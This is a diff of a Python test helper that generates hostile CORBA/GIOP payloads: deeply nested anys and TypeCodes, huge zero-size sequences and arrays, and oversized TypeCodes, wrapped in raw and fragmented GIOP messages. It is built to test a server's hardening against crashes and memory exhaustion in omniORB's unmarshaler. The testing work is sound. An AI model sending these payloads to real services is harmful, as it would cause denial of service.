@@ -1,48 +1,187 @@
-"""Well-formed but hostile request bodies for Hardening::Target.take(in any) (issue #12 items 1, 2).
+"""Well-formed but hostile values for Hardening::Target.take(in any), and the raw GIOP that carries them.
 
-Each builder returns the CDR body of one ``any`` (GIOP 1.2, little endian,
-starting at an 8-aligned offset) that omniORB's own unmarshaler cannot take
-safely: it recurses once per nesting level (a deep enough chain overflows
-its C stack) and makes one Python object per element of a zero-size type.
-Shared by tests/test_hardening_values.py and loadtests/attack_values.py.
+Each attack writes the CDR of one ``any`` that omniORB's own unmarshaler
+cannot take safely: it recurses once per nesting level (a deep enough chain
+overflows its C stack), makes one Python object per element of a zero-size
+type, and costs quadratic memory for nested TypeCodes.  An attack is
+called as ``attack(little_endian=True, base=0)``: the body in that byte
+order for a stream position ``base`` (the offset of the body in its GIOP
+message).  :func:`request` and :func:`reply` wrap a body in raw GIOP the
+way an attacker sends it: any version, either byte order, in GIOP 1.1 or
+1.2 fragments, with or without a CodeSets context.  Shared by
+tests/test_hardening_values.py, tests/test_network_fuzz.py and
+loadtests/attack_values.py.
 """
 
 from __future__ import annotations
 
-import struct
+from typing import Callable, Protocol
 
-TK_NULL, TK_LONG, TK_ANY, TK_SEQUENCE = 0, 3, 11, 19
+from pyorb.giop import codec
+from pyorb.giop.cdr import CDRWriter
+from pyorb.giop.connection import GIOPConnection, Role
+from pyorb.giop.ior import CS_UTF16, code_sets_context
+from pyorb.giop.messages import GIOP_1_1, GIOP_1_2, Reply, ReplyStatus, Request, ServiceContext, Version
+
+TK_NULL, TK_LONG, TK_ANY, TK_STRUCT, TK_SEQUENCE, TK_ARRAY = 0, 3, 11, 15, 19, 20
+FRAGMENT = 7
+
+Fill = Callable[[CDRWriter], None]
 
 
-def _u32(n: int) -> bytes:
-    return struct.pack("<I", n)
+class Attack(Protocol):
+    def __call__(self, little_endian: bool = True, base: int = 0) -> bytes: ...
 
 
-def _encapsulation(payload: bytes) -> bytes:
-    # Byte-order octet (little endian), then the payload aligned from the encapsulation start.
-    return _u32(len(payload) + 4) + b"\x01\x00\x00\x00" + payload
+def _body(fill: Fill, little_endian: bool, base: int) -> bytes:
+    w = CDRWriter(little_endian, base)
+    fill(w)
+    return w.getvalue()
 
 
-def nested_anys(depth: int) -> bytes:
+def _nested_anys(depth: int) -> Fill:
+    def fill(w: CDRWriter) -> None:
+        for _ in range(depth):
+            w.ulong(TK_ANY)
+        w.ulong(TK_LONG)
+        w.long(7)
+
+    return fill
+
+
+def _nested_sequence_typecodes(depth: int) -> Fill:
+    def fill(w: CDRWriter) -> None:
+        tc = _u32(TK_LONG, w.little_endian)
+        for _ in range(depth):  # each level: element type, then bound 0, in an encapsulation
+            tc = _u32(TK_SEQUENCE, w.little_endian) + _encapsulation(tc + bytes(4), w.little_endian)
+        w.align(4)
+        w.raw(tc)
+        w.ulong(0)  # an empty sequence
+
+    return fill
+
+
+def _u32(n: int, little_endian: bool) -> bytes:
+    return n.to_bytes(4, "little" if little_endian else "big")
+
+
+def _encapsulation(payload: bytes, little_endian: bool) -> bytes:
+    # Byte-order octet, then the payload aligned from the encapsulation start.
+    return _u32(len(payload) + 4, little_endian) + bytes((int(little_endian), 0, 0, 0)) + payload
+
+
+def _empty_elements(kind: int, count: int) -> Fill:
+    def fill(w: CDRWriter) -> None:
+        w.ulong(kind)
+        w.encapsulation(lambda e: (e.ulong(TK_NULL), e.ulong(0 if kind == TK_SEQUENCE else count)))
+        if kind == TK_SEQUENCE:
+            w.ulong(count)  # the count; the elements take no octets
+
+    return fill
+
+
+def _big_typecode(size: int) -> Fill:
+    def fill(w: CDRWriter) -> None:
+        w.ulong(TK_STRUCT)
+        w.encapsulation(lambda e: (e.string("IDL:" + "x" * size + ":1.0"), e.string("Big"), e.ulong(1),
+                                   e.string("v"), e.ulong(TK_LONG)))
+        w.long(7)
+
+    return fill
+
+
+def attack(fill: Fill) -> Attack:
+    """An :class:`Attack` writing one any with ``fill``."""
+    return lambda little_endian=True, base=0: _body(fill, little_endian, base)
+
+
+def nested_anys(depth: int, little_endian: bool = True, base: int = 0) -> bytes:
     """An any holding an any holding ... ``depth`` deep, then a long."""
-    return _u32(TK_ANY) * depth + _u32(TK_LONG) + _u32(7)
+    return _body(_nested_anys(depth), little_endian, base)
 
 
-def nested_sequence_typecodes(depth: int) -> bytes:
+def nested_sequence_typecodes(depth: int, little_endian: bool = True, base: int = 0) -> bytes:
     """An any whose TypeCode is sequence<sequence<...<long>>> ``depth`` deep, holding an empty sequence."""
-    tc = _u32(TK_LONG)
-    for _ in range(depth):
-        tc = _u32(TK_SEQUENCE) + _encapsulation(tc + _u32(0))  # element type, then bound 0
-    return tc + _u32(0)
+    return _body(_nested_sequence_typecodes(depth), little_endian, base)
 
 
-def empty_elements(count: int) -> bytes:
+def empty_elements(count: int, little_endian: bool = True, base: int = 0) -> bytes:
     """An any holding a sequence<null> of ``count`` elements: a few octets on the wire."""
-    return _u32(TK_SEQUENCE) + _encapsulation(_u32(TK_NULL) + _u32(0)) + _u32(count)
+    return _body(_empty_elements(TK_SEQUENCE, count), little_endian, base)
 
 
-ATTACKS = {
-    "any in any, 300,000 deep": lambda: nested_anys(300_000),
-    "sequence TypeCodes, 8,000 deep": lambda: nested_sequence_typecodes(8_000),
-    "sequence<null> of 2^27": lambda: empty_elements(1 << 27),
+def empty_array(count: int, little_endian: bool = True, base: int = 0) -> bytes:
+    """An any holding an array<null, ``count``>: its length is in the TypeCode, its elements take no octets."""
+    return _body(_empty_elements(TK_ARRAY, count), little_endian, base)
+
+
+ATTACKS: dict[str, Attack] = {
+    "any in any, 300,000 deep": attack(_nested_anys(300_000)),
+    "sequence TypeCodes, 8,000 deep": attack(_nested_sequence_typecodes(8_000)),
+    "sequence<null> of 2^27": attack(_empty_elements(TK_SEQUENCE, 1 << 27)),
+    "array<null, 2^27>": attack(_empty_elements(TK_ARRAY, 1 << 27)),
+    "a TypeCode of 128 KiB": attack(_big_typecode(128 * 1024)),
 }
+
+
+# -- raw GIOP, as an attacker sends it -------------------------------------------------
+
+
+def code_sets(char_set: int | None) -> tuple[ServiceContext, ...]:
+    """The service contexts naming ``char_set`` (None: none, as GIOP 1.0 and many clients send)."""
+    return () if char_set is None else (code_sets_context(char_set, CS_UTF16),)
+
+
+def request(
+    value: Attack, version: Version = GIOP_1_2, little_endian: bool = True, fragmented: bool = False,
+    char_set: int | None = None, operation: str = "take", request_id: int = 1,
+) -> bytes:
+    """A Request for ``operation`` on the object key ``Target`` whose one argument is ``value``."""
+    msg = Request(request_id=request_id, response_flags=3, object_key=b"Target", operation=operation,
+                  service_contexts=code_sets(char_set), version=version, little_endian=little_endian)
+    return _message(msg, value, fragmented, Role.CLIENT)
+
+
+def reply(
+    value: Attack, version: Version = GIOP_1_2, little_endian: bool = True, fragmented: bool = False,
+    exception_id: str | None = None, request_id: int = 1,
+) -> bytes:
+    """A Reply whose one result is ``value``, or (``exception_id``) a USER_EXCEPTION whose one member is."""
+    status = ReplyStatus.NO_EXCEPTION if exception_id is None else ReplyStatus.USER_EXCEPTION
+    msg = Reply(request_id=request_id, reply_status=status, version=version, little_endian=little_endian)
+    if exception_id is not None:
+        inner = value
+
+        def value(little_endian: bool = True, base: int = 0) -> bytes:
+            w = CDRWriter(little_endian, base)
+            w.string(exception_id)
+            return w.getvalue() + inner(little_endian, base + len(w.buf))
+
+    return _message(msg, value, fragmented, Role.SERVER)
+
+
+def _message(msg: Request | Reply, value: Attack, fragmented: bool, sender: Role) -> bytes:
+    from dataclasses import replace
+
+    base = codec.body_offset(msg)
+    data = codec.encode(replace(msg, body=value(msg.little_endian, base)))
+    if not fragmented:
+        return data
+    if msg.version == GIOP_1_2:  # the sender's own fragmenter: 8-aligned payloads, at least two
+        size = max(64, min(4096, len(data) // 16 * 8))
+        return GIOPConnection(sender, max_fragment_size=size).send(replace(msg, body=value(msg.little_endian, base)))
+    if msg.version != GIOP_1_1:
+        raise ValueError("GIOP 1.0 has no fragments")
+    return fragments_11(data, base + 4)
+
+
+def fragments_11(data: bytes, cut: int) -> bytes:
+    """One GIOP 1.1 message as a Request/Reply of its first ``cut`` octets (a multiple of 4, so no
+    ulong is split) and one Fragment of the rest, whose alignment restarts at its own header."""
+    order = "little" if data[6] & 1 else "big"
+    cut += -cut % 4
+    first = bytearray(data[:cut])
+    first[6] |= 2  # more fragments follow
+    first[8:12] = (cut - 12).to_bytes(4, order)
+    rest = data[cut:]
+    return bytes(first) + b"GIOP\x01\x01" + bytes((data[6] & 1, FRAGMENT)) + len(rest).to_bytes(4, order) + rest
